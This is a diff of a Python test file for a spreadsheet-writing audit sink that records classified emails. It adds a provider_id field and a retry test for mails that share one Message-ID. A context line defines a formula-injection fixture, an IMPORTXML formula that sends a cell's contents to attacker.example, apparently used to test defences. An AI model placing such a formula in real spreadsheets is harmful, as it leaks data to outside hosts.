@@ -26,7 +26,7 @@ EVIL = '=IMPORTXML("http://attacker.example/?"&A2,"//a")'
 def row(n: int, **fields: Any) -> dict[str, Any]:
     base: dict[str, Any] = {f: "" for f in AUDIT_FIELDS}
     base.update(processed_at=f"2026-03-0{n % 9 + 1}T10:00:00+00:00", message_id=f"<m{n}@mail.example>",
-                subject=f"Quote request {n}", category="lead", confidence=0.91)
+                provider_id=f"p{n}", subject=f"Quote request {n}", category="lead", confidence=0.91)
     base.update(fields)
     return base
 
@@ -118,7 +118,15 @@ def test_retry_after_a_landed_append_writes_only_the_missing_rows(env: Env) -> N
     restarted.write([row(1), row(2), row(3)], retry=True)  # all there: no append at all
     assert env.message_ids() == ["<m1@mail.example>", "<m2@mail.example>", "<m3@mail.example>"]
     assert len(env.appends()) == 2
-    assert len(env.srv.requests(r"C1%3AC$", "GET")) == 2  # one message_id column read per retried call
+    assert len(env.srv.requests(r"E1%3AE$", "GET")) == 2  # one provider_id column read per retried call
+
+
+def test_a_retry_tells_two_mails_with_one_message_id_apart(env: Env) -> None:
+    """Identity is the mailbox's id: the row of a second mail that reuses a Message-ID is still written, once."""
+    env.sink.write([row(1)], retry=False)
+    env.new_sink().write([row(1), row(1, provider_id="p2")], retry=True)
+    env.new_sink().write([row(1, provider_id="p2")], retry=True)
+    assert env.message_ids() == ["<m1@mail.example>", "<m1@mail.example>"]
 
 
 def test_a_lost_response_is_retried_without_duplicating(env: Env) -> None:
@@ -137,7 +145,7 @@ def test_429_waits_for_retry_after_and_does_not_reread(env: Env) -> None:
     env.sink.write([row(1)], retry=False)
     assert len(env.sleeps) == 1 and 7 <= env.sleeps[0] <= 7.7
     assert env.message_ids() == ["<m1@mail.example>"]
-    assert env.srv.requests(r"C1%3AC$") == []  # a 429 is refused before writing: no need to look
+    assert env.srv.requests(r"E1%3AE$") == []  # a 429 is refused before writing: no need to look
 
 
 def test_outage_raises_sink_unavailable_after_the_retries(env: Env) -> None:
